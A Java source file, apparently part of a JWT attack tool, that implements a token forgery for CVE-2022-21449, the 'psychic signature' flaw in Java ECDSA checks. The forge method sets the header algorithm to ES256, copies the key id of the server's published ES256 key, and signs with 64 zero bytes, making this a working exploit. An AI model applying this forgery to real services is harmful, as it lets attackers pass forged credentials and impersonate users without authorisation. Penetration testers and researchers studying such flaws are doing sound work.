package dev.gatehouse.desktop.attack.forge;

import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;

/** Signs with zeros (CVE-2022-21449). */
public final class PsychicSignature implements Forgery {
  private static final String ALGORITHM = "ES256";
  private static final int SIGNATURE_BYTES = 64;

  @Override
  public String title() {
    return "Psychic signature";
  }

  @Override
  public String does() {
    return "Says ES256, names that key of the server, and signs with 64 zeros.";
  }

  @Override
  public String attack() {
    return "jwt-psychic-signature";
  }

  @Override
  public boolean needsKeys() {
    return true;
  }

  @Override
  public CompactToken forge(CompactToken token, Ingredients with) throws CredentialException {
    String kid =
        PublishedKeys.find(with.keys(), "alg", ALGORITHM, "key for ES256").path("kid").asText();
    return token
        .withHeader("alg", ALGORITHM)
        .withHeader("kid", kid)
        .withSignature(new byte[SIGNATURE_BYTES]);
  }
}
